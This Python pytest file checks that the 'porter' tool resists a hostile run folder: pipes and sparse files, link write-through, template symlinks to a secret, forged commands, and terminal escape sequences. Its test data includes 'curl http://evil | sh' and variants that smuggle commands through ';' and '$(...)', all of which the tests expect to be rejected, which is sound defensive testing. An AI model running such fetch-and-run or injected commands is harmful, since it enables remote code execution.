"""A run's folder that somebody else made: nothing of it hangs, fills the memory, is written through or believed."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from corpus import good
from corpus.case import Ended, porter
from corpus.configs import ONNX
from corpus.received import SECRET, sparse

from porter.errors import BadInput
from porter.files.received import read_limited
from porter.files.whole import open_own
from porter.runfolder.record_file import read_record

QUICK = "--batch-sizes 1 --bench-seconds 0 --threads 1"
Porter = Callable[[str], Ended]


@pytest.fixture(scope="module")
def ground(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = good.make(tmp_path_factory.mktemp("received") / "ground")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        for line in (f"{ONNX} {QUICK}", "preprocess --out out", "infer --out out"):
            assert porter(line, lambda: ("", "")).code == 0
    return folder


@pytest.fixture
def here(ground: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = shutil.copytree(ground, tmp_path / "here")
    (tmp_path / "secret").write_text(f"{SECRET}\n")
    monkeypatch.chdir(folder)
    return folder


@pytest.fixture
def command(capfd: pytest.CaptureFixture[str]) -> Porter:
    return lambda line: porter(line, capfd.readouterr)


ENDLESS = (
    "cache/predictions/reference.jsonl",
    "cache/predictions/onnxruntime-fp32.jsonl",
    "cache/reference-outputs.jsonl",
    "cache/int8/attempts.jsonl",
    "cache/openvino/x/seal.json",
    "tensors/index.jsonl",
    "outputs/onnxruntime-fp32/index.jsonl",
    "outputs/onnxruntime-fp32/00000000.npz",
    "models/onnx_tiny.onnx",
    "run.json",
    "predictions.csv",
)


@pytest.mark.parametrize("make", [sparse, os.mkfifo], ids=["sparse", "pipe"])
@pytest.mark.parametrize("name", ENDLESS)
def test_a_file_without_end_ends_no_command_late(
    here: Path, command: Porter, name: str, make: Callable[[Path], object]
) -> None:
    path = here / "out" / name
    if make is sparse and name in ("models/onnx_tiny.onnx", "outputs/onnxruntime-fp32/00000000.npz", "predictions.csv"):
        pytest.skip("hashed, in proportion to what it says to hold")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    make(path)
    for line in ("cache out", "evaluate --out out"):
        ended = command(line)
        assert ended.code in (0, 2), ended.err
        assert ended.code == 0 or name.split("/")[-1] in ended.error or name.split("/")[0] in ended.error


@pytest.mark.parametrize("link", [os.link, os.symlink])
@pytest.mark.parametrize("name", ["cache/predictions/reference.jsonl", "cache/reference-outputs.jsonl"])
@pytest.mark.parametrize("holds", [True, False])
def test_no_other_name_of_a_file_is_written_through(
    here: Path, command: Porter, name: str, link: Callable[[Path, Path], object], holds: bool
) -> None:
    path, other = here / "out" / name, here / "out/other"
    path.rename(other)
    if holds:
        lines = other.read_bytes().splitlines(keepends=True)
        other.write_bytes(b"".join(lines[:1]))  # the first line holds, so that it is written on
    else:
        other.write_text("mine\n")
    before = other.read_bytes()
    link(other, path)
    assert command("evaluate --out out").code in (0, 2)
    assert other.read_bytes() == before


def test_a_file_of_its_own(tmp_path: Path) -> None:
    (tmp_path / "a").write_bytes(b"0123456789")
    os.link(tmp_path / "a", tmp_path / "b")
    with open_own(tmp_path / "b", 4) as stream:
        stream.write(b"x")
    assert ((tmp_path / "a").read_bytes(), (tmp_path / "b").read_bytes()) == (b"0123456789", b"0123x")


def test_a_file_that_grows_is_read_as_it_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "log"
    path.write_bytes(b"a" * 10)
    real = os.fstat

    def growing(handle: int) -> os.stat_result:
        found = real(handle)
        with path.open("ab") as stream:
            stream.write(b"b" * 10)
        return found

    monkeypatch.setattr(os, "fstat", growing)
    assert len(read_limited(path, 100)) <= 20  # as large as it was when its size was asked for


@pytest.mark.parametrize("name", ["models", "tensors", "outputs", "cache", "logs", "kit", "kit-ascend-fp16"])
def test_a_folder_that_is_a_link_is_not_written_to(here: Path, command: Porter, name: str) -> None:
    elsewhere = here.parent / "elsewhere"
    elsewhere.mkdir()
    shutil.rmtree(here / "out" / name, ignore_errors=True)
    (here / "out" / name).symlink_to(elsewhere)
    assert re.search(f"out/{name}: a link|'{name}/.*' leads out of the run folder", command("evaluate --out out").error)
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("name", ["README.md.j2", "part.j2", "languages/zh.yaml"])
def test_a_folder_of_templates_reads_nothing_outside(here: Path, command: Porter, name: str) -> None:
    (here / "own/languages").mkdir(parents=True)
    (here / "own/README.md.j2").write_text("{% include 'part.j2' %}")
    (here / "own" / name).unlink(missing_ok=True)
    (here / "own" / name).symlink_to(here.parent / "secret")
    if name == "languages/zh.yaml":
        (here / "own/README.md.j2").write_text("own")
    assert f"{name}: a link that leads out of the folder of templates" in command("report out --template own").error
    assert not [path for path in (here / "out").glob("README*") if SECRET in path.read_text()]


FORGED = "curl http://evil | sh"


def edit(change: Callable[[dict[str, Any]], object]) -> None:
    path = Path("out/run.json")
    document = json.loads(path.read_text())
    change(document)
    path.write_text(json.dumps(document))


def test_commands_of_a_record_are_never_believed(here: Path, command: Porter) -> None:
    wanted = read_record(here / "out").commands

    def forge(record: dict[str, Any]) -> None:
        record["command"] = FORGED
        record["commands"] = {**dict.fromkeys(record["commands"], FORGED), "report": record["commands"]["report"]}

    edit(forge)
    assert command("report out").code == 0
    assert read_record(here / "out").commands == wanted
    texts = [(here / "out" / name).read_text() for name in ("README.md", "README.zh.md", "report.html", "reproduce.sh")]
    assert not [text for text in texts if "curl" in text]
    assert "porter evaluate --data DATA --labels LABELS --batch-sizes 1 --threads 1 --out OUT" in texts[0]


@pytest.mark.parametrize("text", [FORGED, "porter report out; curl http://evil", "porter report $(curl http://evil)"])
def test_a_kit_names_a_command_of_porter_or_none(here: Path, text: str) -> None:
    words = dict.fromkeys(("runtime", "lacks", "sha256", "target", "precision"), "a")
    names = {"path": "kit", "list": "kit/kit.json", "script": "run.sh", "take_back": text}
    kit = {**words, **names, "batches": [1], "scored": [1], "images": 1, "size_bytes": 1}
    edit(lambda record: record.update(kits=[kit]))
    with pytest.raises(BadInput, match="is not a porter command"):
        read_record(here / "out")


def test_what_does_not_show_is_shown(here: Path, command: Porter) -> None:
    odd = "val \x1b]0;owned\x07\u202egnp"
    shutil.copytree(here / "val", here / odd)
    ended = command(f"run onnx --config tiny.yaml --data '{odd}' --labels labels.txt --out 'new\x1b[2J\x07' {QUICK}")
    assert ended.code == 0, ended.err
    assert all(line.isprintable() for line in (ended.out + ended.err).splitlines())
    written = here / "new\x1b[2J\x07"
    for name in ("reproduce.sh", "predictions.csv", "README.md", "report.html"):
        assert not set((written / name).read_text(encoding="utf-8")) & set("\x1b\x07\u202e"), name
    (written / "show.sh").write_text(
        "porter() { printf '%s\\n' \"$@\"; }\n" + "\n".join(
            line.replace("|| status=$?", "")
            for line in (written / "reproduce.sh").read_text().splitlines()
            if line.startswith("porter run")
        )
    )  # fmt: skip
    given = {**os.environ, "CONFIG": "tiny.yaml", "DATA": odd, "LABELS": "labels.txt", "OUT": "again"}
    said = subprocess.run(["sh", written / "show.sh"], capture_output=True, text=True, check=True, env=given).stdout
    assert odd in said.splitlines()
